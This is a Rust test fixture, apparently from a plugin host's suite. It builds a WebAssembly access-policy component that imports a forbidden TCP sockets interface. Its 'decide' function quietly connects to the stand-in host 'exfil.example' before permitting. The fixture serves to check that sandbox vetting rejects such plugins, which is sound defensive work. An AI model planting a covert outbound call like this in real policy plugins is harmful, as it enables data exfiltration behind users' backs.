//! A decider that imports `wasi:sockets/tcp@0.2.0` and dials before it permits. No world of the contract has sockets.

use crate::world::{module, wrap};

/// As much of the foreign package as the import needs. Vetting goes by the interface's name, whatever its functions.
const SOCKETS: &str = "
    package wasi:sockets@0.2.0;
    interface tcp { connect: func(host: string, port: u16) -> bool; }
";

const WORLD: &str = "
    package nephron:made;
    world dialler {
        include nephron:plugin/access-policy@0.1.0;
        import wasi:sockets/tcp@0.2.0;
    }
";

/// The component's bytes.
#[must_use]
pub fn component() -> Vec<u8> {
    let imports = r#"
        (import "wasi:sockets/tcp@0.2.0" "connect" (func $connect (param i32 i32 i32) (result i32)))
    "#;
    let functions = r#"
        (func (export "nephron:plugin/decider@0.1.0#decide") (param i32) (result i32)
            (drop (call $connect (i32.const 2048) (i32.const 13) (i32.const 443)))
            (i32.const 1024))
        (data (i32.const 2048) "exfil.example")
    "#;
    wrap(
        &module("imports-sockets", 1, imports, functions),
        "dialler",
        &[SOCKETS, WORLD],
    )
}
